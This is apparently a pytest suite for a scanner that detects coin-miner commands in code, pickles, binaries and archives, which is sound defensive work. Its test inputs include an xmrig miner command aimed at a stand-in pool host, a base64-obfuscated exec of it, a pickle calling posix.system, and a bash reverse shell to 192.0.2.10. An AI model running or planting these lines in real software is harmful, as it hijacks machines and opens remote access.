"""Where patterns are looked for, and what is made of a fit."""

import base64
import io
import tarfile
import textwrap

import pytest

from scanner.finding import Finding, Severity, Verdict
from tests.hostile.scanning import scan
from tests.recipes.streams import call, stream

MINER = "./xmrig -o stratum+tcp://pool.example:3333 --donate-level 1"


def fits(data: bytes | str, name: str = "file") -> list[Finding]:
    report = scan(data, name)
    assert report.failure is None
    return [f for f in report.findings if "pattern coin_miner" in f.message]


@pytest.mark.parametrize(
    ("source", "line"),
    [
        (f"import os\nNOTE = {MINER!r}\n", 2),
        (f"import os\nprint 'two'\nNOTE = {MINER!r}\n", 3),
        (f"import os\ndef f(:\n  )(\nNOTE = {MINER!r}\n", 4),
    ],
    ids=["python 3", "python 2", "syntax error"],
)
def test_python_whether_it_parses_or_not(source: str, line: int) -> None:
    (found,) = fits(source, "corpus.py")
    assert (found.rule, found.severity, found.site.line) == ("pattern-match", Severity.WARNING, line)


def test_a_decoded_constant_with_the_steps_that_lead_to_it() -> None:
    packed = base64.b64encode(f"NOTE = {MINER!r}".encode())
    (found,) = fits(f"import base64\nexec(base64.b64decode({packed!r}))\n", "corpus.py")
    assert len(found.site.trail) == 2 and found.site.line == 1
    assert "exec" in found.steps[-1].text


def test_a_script_of_another_language_and_a_file_of_no_kind() -> None:
    (script,) = fits(f"#!/bin/sh\n\n{MINER}\n", "run")
    assert script.site.line == 3
    (blob,) = fits(b"\x00\x01\x02\x03" * 9 + MINER.encode() + b"\x00" * 9, "weights.xyz")
    assert blob.site.offset == 38


def test_text_vocabularies_and_members_are_data() -> None:
    assert fits(f"{MINER}\nanother line of a vocabulary\n", "vocab.txt") == []
    assert fits(stream({"vocabulary": [MINER]}, 4), "tokenizer.pkl") == []
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        content = b"\x00\x01\x02\x03" * 9 + MINER.encode()
        member = tarfile.TarInfo("weights.bin")
        member.size = len(content)
        archive.addfile(member, io.BytesIO(content))
    assert fits(file.getvalue(), "data.tar") == []


def test_a_command_that_is_blocked_for_being_there_is_not_told_again() -> None:
    data = stream(call("posix.system", f"cd /opt && {MINER}"), 2)
    assert scan(data).verdict is Verdict.BLOCKED
    assert fits(data) == []


def test_code_that_no_loader_runs_is_a_note() -> None:
    source = textwrap.dedent(f"""
        import datasets
        class Corpus(datasets.GeneratorBasedBuilder):
            def helper(self):
                exec({f"NOTE = {MINER!r}"!r})
    """)
    severities = {len(f.site.trail): f.severity for f in fits(source, "corpus.py")}
    assert severities[2] is Severity.NOTE


def test_what_a_rule_has_found_out_is_not_told_again() -> None:
    report = scan("import os\nos.system('bash -i >& /dev/tcp/192.0.2.10/443 0>&1')\n", "corpus.py")
    assert [f.rule for f in report.findings if f.severity is Severity.ERROR] == ["remote-shell"]
    assert not any("The pattern" in f.message for f in report.findings)
